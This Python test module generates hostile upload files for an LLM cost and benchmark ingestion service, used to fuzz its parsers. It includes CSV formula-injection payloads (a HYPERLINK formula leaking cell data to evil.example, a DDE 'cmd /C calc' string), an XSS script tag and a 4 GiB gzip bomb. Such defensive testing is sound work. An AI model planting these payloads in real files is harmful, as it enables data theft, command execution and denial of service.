"""A corpus of hostile input files, generated in code (nothing big is committed).

`hostile_cases()` returns `HostileCase(name, kind, data, filename)` tuples (`filename` is given
for the cases about the name itself). `kind` says where the file goes:

- `token_log`: `POST /api/v1/uploads/` with kind=token_log, the upload page, `ingest`;
- `billing`: the same with kind=billing (`ingest --kind billing`);
- `benchmark`: `POST /api/v1/benchmark-runs/`, the Benchmarks page, `benchmark_import`;
- `telemetry`: a GPU telemetry CSV attached (field `telemetry`, `--telemetry`) to a good vLLM
  result, through the same three benchmark channels.

The gzip "bomb" is built without ever holding the expanded data: one gzip member of 8 MiB of
zeros (about 8 KiB compressed) repeated 512 times, a valid multi-member gzip of about 4 MiB that
would expand to 4 GiB.
"""

from __future__ import annotations

import codecs
import gzip
import json
from typing import NamedTuple


class HostileCase(NamedTuple):
    name: str
    kind: str
    data: bytes
    filename: str = ""  # the name the file is sent under; by default one built from `name`


BIG_FIELD_BYTES = 5 * 1024 * 1024
NESTING_DEPTH = 5000
BOMB_MEMBER_BYTES = 8 * 1024 * 1024
BOMB_MEMBERS = 512  # 512 x 8 MiB = 4 GiB once expanded

FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)")
SCRIPT = "<script>alert('x')</script>"
HUGE = 2**70


def _csv(header: str, *rows: str, newline: str = "\n") -> bytes:
    return (newline.join([header, *rows]) + newline).encode()


def _jsonl(*objects: object) -> bytes:
    return b"".join(json.dumps(o).encode() + b"\n" for o in objects)


def _deep(depth: int = NESTING_DEPTH) -> str:
    """Nested JSON arrays `depth` levels deep, as text (json.dumps would recurse)."""
    return "[" * depth + "]" * depth


def gzip_bomb() -> bytes:
    """A multi-member gzip of ~4 MiB that would expand to 4 GiB of zeros."""
    member = gzip.compress(bytes(BOMB_MEMBER_BYTES), compresslevel=9, mtime=0)
    return member * BOMB_MEMBERS


# --- LiteLLM --------------------------------------------------------------------------------

LITELLM_HEADER = (
    "request_id,call_type,api_key,spend,total_tokens,prompt_tokens,completion_tokens,"
    "startTime,endTime,completionStartTime,model,model_group,custom_llm_provider,user,metadata,"
    "cache_hit,request_tags,team_id,end_user,status"
)


def _litellm_row(
    rid: str = "r-1",
    *,
    spend: str = "0.001",
    prompt: str = "100",
    completion: str = "20",
    start: str = "2024-05-01 12:00:00.000",
    end: str = "2024-05-01 12:00:02.000",
    model: str = "gpt-4o-mini",
    user: str = "u-1",
    metadata: str = '"{""user_api_key_alias"": ""bot""}"',
    team: str = "team-a",
) -> str:
    return (
        f"{rid},acompletion,k1,{spend},120,{prompt},{completion},{start},{end},,{model},"
        f"{model},openai,{user},{metadata},False,[],{team},,success"
    )


def _litellm_obj(rid: str = "j-1", **overrides: object) -> dict[str, object]:
    row: dict[str, object] = {
        "request_id": rid,
        "call_type": "acompletion",
        "api_key": "k1",
        "spend": 0.001,
        "prompt_tokens": 100,
        "completion_tokens": 20,
        "startTime": "2024-05-02T08:00:00Z",
        "endTime": "2024-05-02T08:00:02Z",
        "model": "gpt-4o",
        "custom_llm_provider": "openai",
        "metadata": {"user_api_key_alias": "bot"},
        "request_tags": [],
        "status": "success",
    }
    row.update(overrides)
    return row


# --- OpenTelemetry --------------------------------------------------------------------------


def _otel_doc(
    *,
    start: str = "1714564800000000000",
    end: str = "1714564802000000000",
    input_tokens: object = "100",
    model: str = "gpt-4o",
    service: str = "svc",
    extra: list[dict[str, object]] | None = None,
) -> dict[str, object]:
    attrs: list[dict[str, object]] = [
        {"key": "gen_ai.system", "value": {"stringValue": "openai"}},
        {"key": "gen_ai.request.model", "value": {"stringValue": model}},
        {"key": "gen_ai.usage.input_tokens", "value": {"intValue": input_tokens}},
        {"key": "gen_ai.usage.output_tokens", "value": {"intValue": "10"}},
        *(extra or []),
    ]
    span = {
        "traceId": "aaaa0000aaaa0000aaaa0000aaaa0001",
        "spanId": "1000000000000001",
        "name": f"chat {model}",
        "startTimeUnixNano": start,
        "endTimeUnixNano": end,
        "attributes": attrs,
    }
    return {
        "resourceSpans": [
            {
                "resource": {
                    "attributes": [{"key": "service.name", "value": {"stringValue": service}}]
                },
                "scopeSpans": [{"scope": {"name": "t"}, "spans": [span]}],
            }
        ]
    }


# --- Generic --------------------------------------------------------------------------------

GENERIC_HEADER = (
    "started_at,ended_at,workload,team,caller,provider,model,input_tokens,output_tokens,cost_usd,"
    "request_id"
)


def _generic_row(
    *,
    start: str = "2024-05-03T09:00:00Z",
    end: str = "2024-05-03T09:00:01Z",
    workload: str = "w",
    team: str = "t",
    caller: str = "c",
    model: str = "gpt-4o-mini",
    inp: str = "10",
    out: str = "5",
    cost: str = "",
    rid: str = "g-1",
) -> str:
    return f"{start},{end},{workload},{team},{caller},openai,{model},{inp},{out},{cost},{rid}"


# --- Billing --------------------------------------------------------------------------------

FOCUS_HEADER = (
    "BilledCost,BillingAccountId,BillingCurrency,BillingPeriodEnd,BillingPeriodStart,"
    "ChargeCategory,ChargeDescription,ChargePeriodEnd,ChargePeriodStart,EffectiveCost,"
    "ProviderName,ServiceName,ResourceId,Tags"
)


def _focus_row(
    *,
    cost: str = "1.50",
    start: str = "2025-06-01T00:00:00Z",
    end: str = "2025-06-01T01:00:00Z",
    description: str = "GPU hours",
    service: str = "Amazon EC2",
    tags: str = '"{""team"": ""ml""}"',
) -> str:
    return (
        f"{cost},111,USD,2025-07-01T00:00:00Z,2025-06-01T00:00:00Z,Usage,{description},"
        f"{end},{start},{cost},AWS,{service},i-1,{tags}"
    )


CUR_HEADER = (
    "identity_line_item_id,line_item_line_item_type,line_item_usage_start_date,"
    "line_item_usage_end_date,line_item_product_code,line_item_usage_type,line_item_usage_amount,"
    "line_item_currency_code,line_item_unblended_cost,line_item_line_item_description"
)


def _cur_row(
    rid: str = "li-1",
    *,
    cost: str = "2.00",
    start: str = "2025-03-01T00:00:00Z",
    end: str = "2025-03-02T00:00:00Z",
    description: str = "Bedrock tokens",
) -> str:
    return (
        f"{rid},Usage,{start},{end},AmazonBedrock,USE1-Claude3.5Sonnet-input-tokens,1500,USD,"
        f"{cost},{description}"
    )


AZURE_HEADER = (
    "invoiceId,billingAccountId,subscriptionId,resourceGroupName,date,meterCategory,"
    "meterSubCategory,meterName,quantity,costInBillingCurrency,billingCurrency,resourceId,tags,"
    "chargeType"
)


def _azure_row(*, cost: str = "3.25", date: str = "11/01/2024", rg: str = "rg-ai") -> str:
    return (
        f"E1,acct,sub,{rg},{date},Cognitive Services,Azure OpenAI,gpt-4o-mini-0718-Inp-glb,"
        f"1000,{cost},EUR,/subscriptions/sub/rg,,Usage"
    )


# --- Benchmarks -----------------------------------------------------------------------------


def _vllm(**overrides: object) -> dict[str, object]:
    run: dict[str, object] = {
        "date": "20250310-140000",
        "backend": "openai-chat",
        "model_id": "meta-llama/Llama-3.1-8B-Instruct",
        "num_prompts": 2,
        "duration": 2.0,
        "completed": 2,
        "failed": 0,
        "total_input_tokens": 200,
        "total_output_tokens": 40,
        "request_throughput": 1.0,
        "output_throughput": 20.0,
        "total_token_throughput": 120.0,
        "mean_ttft_ms": 50.0,
        "median_ttft_ms": 50.0,
        "p99_ttft_ms": 60.0,
        "mean_tpot_ms": 10.0,
        "median_tpot_ms": 10.0,
        "p99_tpot_ms": 12.0,
        "mean_itl_ms": 10.0,
        "median_itl_ms": 10.0,
        "p99_itl_ms": 12.0,
        "mean_e2el_ms": 250.0,
        "median_e2el_ms": 250.0,
        "p99_e2el_ms": 300.0,
    }
    run.update(overrides)
    return run


def good_vllm() -> bytes:
    """A small valid vLLM result, the base that telemetry cases are attached to."""
    return json.dumps(_vllm(), indent=1).encode()


NVIDIA_HEADER = "timestamp, index, name, driver_version, utilization.gpu [%], power.draw [W]"


def long_name(extension: str) -> str:
    """A file name of exactly 255 UTF-8 bytes (the most a Linux file name holds), mostly
    three-byte characters, ending in ``extension``."""
    stem = "export-" + "€" * ((255 - 7 - len(extension)) // 3)
    return stem + "x" * (255 - len(stem.encode()) - len(extension)) + extension


def hostile_cases() -> list[HostileCase]:  # noqa: PLR0915 (a long, flat list reads best)
    f1, f2, f3 = FORMULAS
    big = "x" * BIG_FIELD_BYTES
    cases = [
        # LiteLLM CSV
        HostileCase(
            "litellm_csv_truncated",
            "token_log",
            _csv(LITELLM_HEADER, _litellm_row())[:-1]
            + b"\nr-2,acompletion,k1,0.1,120,100,20,2024-05-01 12:00:00,"
            + b'2024-05-01 12:0,,gpt-4o,"{"',
        ),
        HostileCase("litellm_csv_binary", "token_log", bytes(range(256)) * 16),
        HostileCase(
            "litellm_csv_latin1",
            "token_log",
            (LITELLM_HEADER + "\n" + _litellm_row(user="café-ünïcode") + "\n").encode("latin-1"),
        ),
        HostileCase(
            "litellm_csv_utf16",
            "token_log",
            codecs.BOM_UTF16_LE + _csv(LITELLM_HEADER, _litellm_row()).decode().encode("utf-16-le"),
        ),
        HostileCase(
            "litellm_csv_bom_crlf",
            "token_log",
            codecs.BOM_UTF8
            + _csv(LITELLM_HEADER, _litellm_row("b-1"), _litellm_row("b-2"), newline="\r\n"),
        ),
        HostileCase(
            "litellm_csv_5mb_field",
            "token_log",
            _csv(
                LITELLM_HEADER,
                _litellm_row("big-1", metadata=f'"{{""note"": ""{big}""}}"'),
                _litellm_row("big-2"),
            ),
        ),
        HostileCase("litellm_csv_empty", "token_log", b""),
        HostileCase("litellm_csv_header_only", "token_log", _csv(LITELLM_HEADER)),
        HostileCase("csv_wrong_columns", "token_log", _csv("foo,bar,baz", "1,2,3", "4,5,6")),
        HostileCase(
            "litellm_csv_nan_inf_overflow",
            "token_log",
            _csv(
                LITELLM_HEADER,
                _litellm_row("n-1", prompt="NaN"),
                _litellm_row("n-2", prompt="Infinity", completion="-inf"),
                _litellm_row("n-3", prompt="1e400"),
                _litellm_row("n-4", prompt=str(HUGE)),
                _litellm_row("n-5", spend="1e400"),
                _litellm_row("n-6", spend="NaN"),
                _litellm_row("n-7", spend=str(HUGE)),
                _litellm_row("n-8"),
            ),
        ),
        HostileCase(
            "litellm_csv_year_1900_9999",
            "token_log",
            _csv(
                LITELLM_HEADER,
                _litellm_row("d-1", start="1900-01-01 00:00:00", end="1900-01-01 00:00:01"),
                _litellm_row("d-2", start="9999-12-31 23:59:58", end="9999-12-31 23:59:59"),
                _litellm_row("d-3", start="2024-05-01 12:00:00", end="9999-12-31 23:59:59"),
                _litellm_row("d-4"),
            ),
        ),
        HostileCase(
            "litellm_csv_end_before_start",
            "token_log",
            _csv(
                LITELLM_HEADER,
                _litellm_row("e-1", start="2024-05-01 12:00:05", end="2024-05-01 12:00:00"),
                _litellm_row("e-2"),
            ),
        ),
        HostileCase(
            "litellm_csv_duplicate_request_ids",
            "token_log",
            _csv(LITELLM_HEADER, *[_litellm_row("same-id") for _ in range(3)]),
        ),
        HostileCase(
            "litellm_csv_formula_injection",
            "token_log",
            _csv(
                LITELLM_HEADER,
                _litellm_row("f-1", model=f'"{f1.replace(chr(34), chr(34) * 2)}"'),
                _litellm_row("f-2", user=f'"{f2}"', team=f3),
                _litellm_row(
                    "f-3", metadata=f'"{{""user_api_key_alias"": ""{f1.replace(chr(34), "")}""}}"'
                ),
            ),
        ),
        # LiteLLM JSON / JSONL
        HostileCase(
            "litellm_json_truncated",
            "token_log",
            json.dumps([_litellm_obj("t-1"), _litellm_obj("t-2")]).encode()[:-40],
        ),
        HostileCase(
            "litellm_json_deep_nesting",
            "token_log",
            ('[{"request_id": "deep", "metadata": ' + _deep() + "}]").encode(),
        ),
        HostileCase("json_top_level_deep_nesting", "token_log", _deep().encode()),
        HostileCase(
            "litellm_jsonl_script_names",
            "token_log",
            _jsonl(
                _litellm_obj("s-1", model=SCRIPT, metadata={"user_api_key_alias": SCRIPT}),
                _litellm_obj("s-2", request_tags=[f"workload:{SCRIPT}"], team_id=SCRIPT),
                _litellm_obj("s-3", request_tags=[f"workload:{f1}"]),
            ),
        ),
        HostileCase(
            "litellm_jsonl_nan_inf_overflow",
            "token_log",
            b'{"request_id": "x-1", "prompt_tokens": NaN, "completion_tokens": 1, '
            b'"startTime": "2024-05-02T08:00:00Z", "endTime": "2024-05-02T08:00:01Z", '
            b'"model": "gpt-4o"}\n'
            b'{"request_id": "x-2", "prompt_tokens": Infinity, "completion_tokens": 1e400, '
            b'"startTime": "2024-05-02T08:00:00Z", "endTime": "2024-05-02T08:00:01Z", '
            b'"model": "gpt-4o"}\n'
            + _jsonl(
                _litellm_obj("x-3", prompt_tokens=HUGE),
                _litellm_obj("x-4", spend=HUGE),
                _litellm_obj("x-5"),
            ),
        ),
        HostileCase(
            "litellm_jsonl_one_bad_line",
            "token_log",
            _jsonl(_litellm_obj("l-1")) + b"{not json at all\n" + _jsonl(_litellm_obj("l-2")),
        ),
        # OpenTelemetry
        HostileCase(
            "otel_json_truncated", "token_log", json.dumps(_otel_doc(), indent=1).encode()[:300]
        ),
        HostileCase(
            "otel_json_deep_nesting",
            "token_log",
            json.dumps(_otel_doc())
            .replace(
                '"attributes": [{"key": "gen_ai.system"',
                '"x": ' + _deep() + ', "attributes": [{"key": "gen_ai.system"',
                1,
            )
            .encode(),
        ),
        HostileCase(
            "otel_jsonl_overflow",
            "token_log",
            _jsonl(
                _otel_doc(start="1e400", end="1e401"),
                _otel_doc(input_tokens=str(HUGE)),
                _otel_doc(start=str(HUGE), end=str(HUGE + 1)),
                _otel_doc(input_tokens="NaN"),
                _otel_doc(),
            ),
        ),
        HostileCase(
            "otel_jsonl_end_before_start",
            "token_log",
            _jsonl(_otel_doc(start="1714564802000000000", end="1714564800000000000"), _otel_doc()),
        ),
        HostileCase(
            "otel_json_wrong_shape",
            "token_log",
            b'{"resourceSpans": "nope", "scopeSpans": [1, 2, {"spans": null}]}',
        ),
        HostileCase(
            "otel_jsonl_script_service",
            "token_log",
            _jsonl(_otel_doc(service=SCRIPT, model=f1)),
        ),
        # Generic CSV / JSONL
        HostileCase(
            "generic_csv_nan_inf_overflow",
            "token_log",
            _csv(
                GENERIC_HEADER,
                _generic_row(inp="nan", rid="g-1"),
                _generic_row(inp="inf", rid="g-2"),
                _generic_row(inp="1e400", rid="g-3"),
                _generic_row(inp=str(HUGE), rid="g-4"),
                _generic_row(cost="1e400", rid="g-5"),
                _generic_row(cost="-inf", rid="g-6"),
                _generic_row(cost=str(HUGE), rid="g-7"),
                _generic_row(start="1e400", end="1e401", rid="g-8"),
                _generic_row(start=str(HUGE), end=str(HUGE), rid="g-9"),
                _generic_row(rid="g-10"),
            ),
        ),
        HostileCase(
            "generic_csv_year_1900_9999",
            "token_log",
            _csv(
                GENERIC_HEADER,
                _generic_row(start="1900-01-01T00:00:00Z", end="1900-01-01T00:00:01Z"),
                _generic_row(start="9999-12-31T23:59:58Z", end="9999-12-31T23:59:59Z"),
                _generic_row(start="0001-01-01T00:00:00Z", end="0001-01-01T00:00:01Z"),
                _generic_row(start="-62135596800", end="-62135596799"),
                _generic_row(),
            ),
        ),
        HostileCase(
            "generic_csv_formula_html",
            "token_log",
            _csv(
                GENERIC_HEADER,
                _generic_row(workload=f'"{f1.replace(chr(34), chr(34) * 2)}"', rid="h-1"),
                _generic_row(workload=f'"{f2}"', team=f3, rid="h-2"),
                _generic_row(workload=SCRIPT, caller=SCRIPT, model=SCRIPT, rid="h-3"),
            ),
        ),
        HostileCase(
            "generic_csv_duplicate_request_ids",
            "token_log",
            _csv(GENERIC_HEADER, *[_generic_row(rid="dup") for _ in range(4)]),
        ),
        HostileCase(
            "generic_csv_bom_crlf",
            "token_log",
            codecs.BOM_UTF8 + _csv(GENERIC_HEADER, _generic_row(), newline="\r\n"),
        ),
        HostileCase(
            "generic_jsonl_deep_nesting",
            "token_log",
            ('{"started_at": "2024-05-03T09:00:00Z", "model": ' + _deep() + "}\n").encode(),
        ),
        HostileCase(
            "generic_jsonl_latin1",
            "token_log",
            json.dumps(
                {
                    "started_at": "2024-05-03T09:00:00Z",
                    "ended_at": "2024-05-03T09:00:01Z",
                    "model": "gpt-4o",
                    "workload": "résumé",
                    "input_tokens": 1,
                    "output_tokens": 1,
                },
                ensure_ascii=False,
            ).encode("latin-1")
            + b"\n",
        ),
        HostileCase("token_log_gzip_bomb", "token_log", gzip_bomb()),
        # Billing: FOCUS
        HostileCase(
            "focus_csv_truncated",
            "billing",
            _csv(FOCUS_HEADER, _focus_row(), _focus_row(cost="2"))[:-60],
        ),
        HostileCase(
            "focus_csv_nan_inf_overflow",
            "billing",
            _csv(
                FOCUS_HEADER,
                _focus_row(cost="NaN"),
                _focus_row(cost="Infinity"),
                _focus_row(cost="-inf"),
                _focus_row(cost="1e400"),
                _focus_row(cost=str(HUGE)),
                _focus_row(cost=str(HUGE) + "." + "9" * 30),
                _focus_row(cost="1.25"),
            ),
        ),
        HostileCase(
            "focus_csv_year_1900_9999",
            "billing",
            _csv(
                FOCUS_HEADER,
                _focus_row(start="1900-01-01T00:00:00Z", end="1900-01-01T01:00:00Z"),
                _focus_row(start="9999-12-31T22:00:00Z", end="9999-12-31T23:00:00Z"),
                _focus_row(),
            ),
        ),
        HostileCase(
            "focus_csv_end_before_start",
            "billing",
            _csv(
                FOCUS_HEADER,
                _focus_row(start="2025-06-02T00:00:00Z", end="2025-06-01T00:00:00Z"),
                _focus_row(),
            ),
        ),
        HostileCase(
            "focus_csv_formula_html",
            "billing",
            _csv(
                FOCUS_HEADER,
                _focus_row(description=f'"{f1.replace(chr(34), chr(34) * 2)}"', service=SCRIPT),
                _focus_row(description=f'"{f2}"', service=f3, tags=f'"{{""team"": ""{SCRIPT}""}}"'),
            ),
        ),
        HostileCase(
            "focus_csv_utf16",
            "billing",
            _csv(FOCUS_HEADER, _focus_row()).decode().encode("utf-16"),
        ),
        HostileCase(
            "focus_csv_deep_nested_tags",
            "billing",
            _csv(FOCUS_HEADER, _focus_row(tags='"' + _deep() + '"'), _focus_row()),
        ),
        HostileCase("billing_gzip_bomb", "billing", gzip_bomb()),
        # Billing: CUR
        HostileCase("cur_csv_header_only", "billing", _csv(CUR_HEADER)),
        HostileCase(
            "cur_csv_duplicate_line_ids",
            "billing",
            _csv(CUR_HEADER, *[_cur_row("li-same") for _ in range(3)]),
        ),
        HostileCase(
            "cur_csv_bom_crlf_overflow",
            "billing",
            codecs.BOM_UTF8
            + _csv(
                CUR_HEADER,
                _cur_row("li-1", cost="1e400"),
                _cur_row("li-2", start="9999-12-31T00:00:00Z", end="1900-01-01T00:00:00Z"),
                _cur_row("li-3"),
                newline="\r\n",
            ),
        ),
        HostileCase("billing_csv_binary", "billing", b"\x89PNG\r\n\x1a\n" + bytes(2048)),
        # Billing: Azure
        HostileCase(
            "azure_csv_latin1",
            "billing",
            _csv(AZURE_HEADER, _azure_row(rg="rg-é")).decode().encode("latin-1"),
        ),
        HostileCase("azure_csv_empty_lines_only", "billing", b"\n\n\r\n   \n"),
        HostileCase(
            "azure_csv_overflow_dates",
            "billing",
            _csv(
                AZURE_HEADER,
                _azure_row(cost="1e400"),
                _azure_row(date="13/45/1900"),
                _azure_row(date="12/31/9999"),
                _azure_row(cost="=1+1"),
                _azure_row(),
            ),
        ),
        # Benchmarks
        HostileCase(
            "vllm_json_truncated", "benchmark", json.dumps(_vllm(), indent=1).encode()[:200]
        ),
        HostileCase(
            "vllm_json_nan_inf_overflow",
            "benchmark",
            json.dumps(_vllm(duration=float("nan"), output_throughput=float("inf"), completed=HUGE))
            .encode()
            .replace(b'"mean_ttft_ms": 50.0', b'"mean_ttft_ms": 1e400'),
        ),
        HostileCase(
            "vllm_json_deep_nesting",
            "benchmark",
            (
                '{"duration": 1, "completed": 1, "output_throughput": 1, "x": ' + _deep() + "}"
            ).encode(),
        ),
        HostileCase("vllm_json_binary", "benchmark", b"{\x00\x01\x02" + bytes(1000)),
        HostileCase(
            "vllm_json_script_model",
            "benchmark",
            json.dumps(_vllm(model_id=SCRIPT, label=f1, date="9999-99-99")).encode(),
        ),
        HostileCase("vllm_json_empty", "benchmark", b""),
        HostileCase("vllm_json_utf16", "benchmark", json.dumps(_vllm()).encode("utf-16")),
        HostileCase("benchmark_gzip_bomb", "benchmark", gzip_bomb()),
        HostileCase(
            "guidellm_json_wrong_shape",
            "benchmark",
            b'{"guidellm_version": "0.3", "benchmarks": [null, 1, "x", {"metrics": []}]}',
        ),
        HostileCase(
            "guidellm_json_truncated",
            "benchmark",
            b'{"guidellm_version": "0.3", "benchmarks": [{"type_": "generative_benchmark", "met',
        ),
        HostileCase(
            "aiperf_json_nan",
            "benchmark",
            b'{"request_latency": {"unit": "ms", "avg": NaN, "p95": Infinity, "p50": 1e400}, '
            b'"time_to_first_token": {"unit": "ms", "avg": -1, "p95": 1e400}}',
        ),
        HostileCase(
            "aiperf_csv_wrong_columns",
            "benchmark",
            _csv("Metric,avg,foo", "Time To First Token (ms),abc,", f"{SCRIPT},1e400,2"),
        ),
        HostileCase(
            "llmperf_individual_overflow",
            "benchmark",
            json.dumps(
                [
                    {"ttft_s": float("nan"), "end_to_end_latency_s": 1e308 * 10},
                    {"ttft_s": 2.0, "end_to_end_latency_s": 1.0, "number_output_tokens": HUGE},
                    {"ttft_s": -5, "end_to_end_latency_s": "soon"},
                ]
            ).encode(),
        ),
        # GPU telemetry attached to a good vLLM run
        HostileCase(
            "nvidia_smi_csv_garbage",
            "telemetry",
            _csv(
                NVIDIA_HEADER,
                "1900/01/01 00:00:00.000, 0, H100, 550, NaN %, 1e400 W",
                "9999/12/31 23:59:59.000, 1, H100, 550, 900 %, -5 W",
                f"not-a-date, {HUGE}, {SCRIPT}, 550, 50 %, 300 W",
            ),
        ),
        HostileCase(
            "nvidia_smi_csv_utf16",
            "telemetry",
            _csv(NVIDIA_HEADER, "2025/03/10 14:00:00.000, 0, H100, 550, 40 %, 300.00 W")
            .decode()
            .encode("utf-16"),
        ),
        HostileCase("nvidia_smi_csv_header_only", "telemetry", _csv(NVIDIA_HEADER)),
    ]
    # File names: the longest a file can have (255 bytes of mostly multibyte characters), and
    # one whose long dotted tail is no extension (Django named its temporary file after it).
    cases += [
        HostileCase(
            "litellm_csv_long_filename",
            "token_log",
            _csv(LITELLM_HEADER, _litellm_row("long-name")),
            long_name(".csv"),
        ),
        HostileCase(
            "litellm_csv_long_dotted_filename",
            "token_log",
            _csv(LITELLM_HEADER, _litellm_row("dotted-name")),
            "x." + "a" * 253,
        ),
        HostileCase(
            "focus_csv_long_filename",
            "billing",
            _csv(FOCUS_HEADER, _focus_row()),
            long_name(".csv"),
        ),
        HostileCase(
            "vllm_json_long_filename",
            "benchmark",
            json.dumps(_vllm(model_id="long-name-model")).encode(),
            long_name(".json"),
        ),
        HostileCase(
            "nvidia_smi_csv_long_filename",
            "telemetry",
            _csv(NVIDIA_HEADER, "2025/03/10 14:00:00.000, 0, H100, 550, 40 %, 300.00 W"),
            long_name(".csv"),
        ),
    ]
    names = [c.name for c in cases]
    assert len(names) == len(set(names)), "case names must be unique"
    return cases
